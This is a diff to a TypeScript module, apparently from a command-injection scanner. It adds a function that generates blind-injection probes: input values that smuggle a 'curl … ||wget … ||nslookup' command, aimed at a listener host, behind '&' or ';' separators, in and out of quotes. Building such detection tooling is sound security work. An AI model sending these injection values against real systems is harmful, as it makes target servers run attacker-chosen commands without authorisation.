@@ -1,4 +1,8 @@
+import { callbackSpot, hasCallbackNames } from '../../model/callbacks.ts';
+import type { CallbackWay } from '../inputs/callback-look.ts';
+import { inputAction, type OpenedInput } from '../inputs/input-request.ts';
 import type { Delaying } from './delays.ts';
+import { givenValue } from './unparsable.ts';
 
 /** A value with a command behind it that calculates, for one way of standing in a command line. */
 export type Calculating = {
@@ -72,4 +76,19 @@ export function delayingIn(sample: string): Delaying[] {
       'ping',
     ),
   ];
+}
+
+/**
+ * Commands that fetch an address of the listener, for those that nobody waits for: with what sh, cmd.exe and PowerShell all have,
+ * in and out of quotes.
+ */
+export function callingIn(input: OpenedInput, host: string | undefined): CallbackWay[] {
+  if (host === undefined) return [];
+  const url = `http://${callbackSpot(host, '‹callback›')}`;
+  const resolve = hasCallbackNames(host) ? `||nslookup ‹callback›.${host}` : '';
+  const call = `curl -s -m 5 ${url}||wget -q -T 5 -O- ${url}${resolve}`;
+  const sample = givenValue(input);
+  const inert = inputAction(input, `${sample} curl ${url}`);
+  const way = (value: string): CallbackWay => ({ action: inputAction(input, sample + value), inert });
+  return [way(inQuotes(`&${call} #`)), way(inQuotes(`;${call};#`))];
 }
